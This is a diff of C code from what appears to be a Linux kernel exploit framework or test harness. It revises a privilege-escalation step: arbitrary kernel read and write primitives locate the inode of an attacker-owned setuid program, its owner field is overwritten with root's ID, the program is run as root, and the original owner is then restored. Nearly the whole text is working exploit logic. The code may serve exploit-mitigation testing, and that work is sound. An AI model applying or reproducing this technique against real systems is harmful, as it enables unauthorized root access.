@@ -20,54 +20,59 @@
 #define OWN_MODE	(S_IFREG | 04755)
 #define FILE_SIZE	256	/* of struct file, at most */
 
-/* Begins with the mode and the owner. */
-static bool is_own_inode(uint64_t at)
+/* Begins with the mode. The owner is next, or behind flags and access lists. */
+static uint64_t owner_in(uint64_t inode)
 {
-	uint32_t words[2];
+	uint32_t words[8];
+	size_t i;
 
-	return is_kernel_address(at) && !kread(at, words, sizeof(words)) &&
-	       (words[0] & 0xffff) == OWN_MODE && words[1] == ATTACKER_UID;
+	if (!is_kernel_address(inode) || kread(inode, words, sizeof(words)) ||
+	    (words[0] & 0xffff) != OWN_MODE)
+		return 0;
+	for (i = 1; i < sizeof(words) / sizeof(*words); i++)
+		if (words[i] == ATTACKER_UID)
+			return inode + i * sizeof(*words);
+	return 0;
 }
 
-static uint64_t inode_in(uint64_t file)
+static uint64_t owner_by_file(uint64_t file)
 {
-	uint64_t words[FILE_SIZE / sizeof(uint64_t)];
+	uint64_t words[FILE_SIZE / sizeof(uint64_t)], owner = 0;
 	size_t i;
 
 	if (!is_kernel_address(file) || kread(file, words, sizeof(words)))
 		return 0;
-	for (i = 0; i < sizeof(words) / sizeof(*words); i++)
-		if (is_own_inode(words[i]))
-			return words[i];
-	return 0;
+	for (i = 0; i < sizeof(words) / sizeof(*words) && !owner; i++)
+		owner = owner_in(words[i]);
+	return owner;
 }
 
 /* By what a mapping of the file points to. */
-static uint64_t find_own_inode(void)
+static uint64_t find_owner(void)
 {
 	int fd = open(OWN_PROGRAM, O_RDONLY | O_CLOEXEC);
 	void *map = mmap(NULL, PAGE_SIZE, PROT_READ, MAP_SHARED, fd, 0);
-	uint64_t vma = map == MAP_FAILED ? 0 : find_vma(map), at, inode = 0;
+	uint64_t vma = map == MAP_FAILED ? 0 : find_vma(map), at, owner = 0;
 
-	for (at = vma; at && at < vma + VMA_SIZE && !inode; at += sizeof(at))
-		inode = inode_in(kread64(at));
+	for (at = vma; at && at < vma + VMA_SIZE && !owner; at += sizeof(at))
+		owner = owner_by_file(kread64(at));
 	close(fd);
-	return inode;
+	return owner;
 }
 
 enum outcome inode_owner(void)
 {
 	uint32_t root = 0, own = ATTACKER_UID;
-	uint64_t inode;
+	uint64_t owner;
 	int err, status;
 
 	setuid_own_create(OWN_PROGRAM);
-	inode = find_own_inode();
-	if (!inode || setuid_run(OWN_PROGRAM) == IS_ROOT)
+	owner = find_owner();
+	if (!owner || setuid_run(OWN_PROGRAM) == IS_ROOT)
 		return broken("no inode found, or %s is root's", OWN_PROGRAM);
-	err = kwrite(inode + sizeof(root), &root, sizeof(root));
+	err = kwrite(owner, &root, sizeof(root));
 	status = setuid_run(OWN_PROGRAM);
-	kwrite(inode + sizeof(own), &own, sizeof(own));
+	kwrite(owner, &own, sizeof(own));
 	unlink(OWN_PROGRAM);
 	if (status != IS_ROOT)
 		return lost("store gave %d, %s exits with %d", err, OWN_PROGRAM, status);
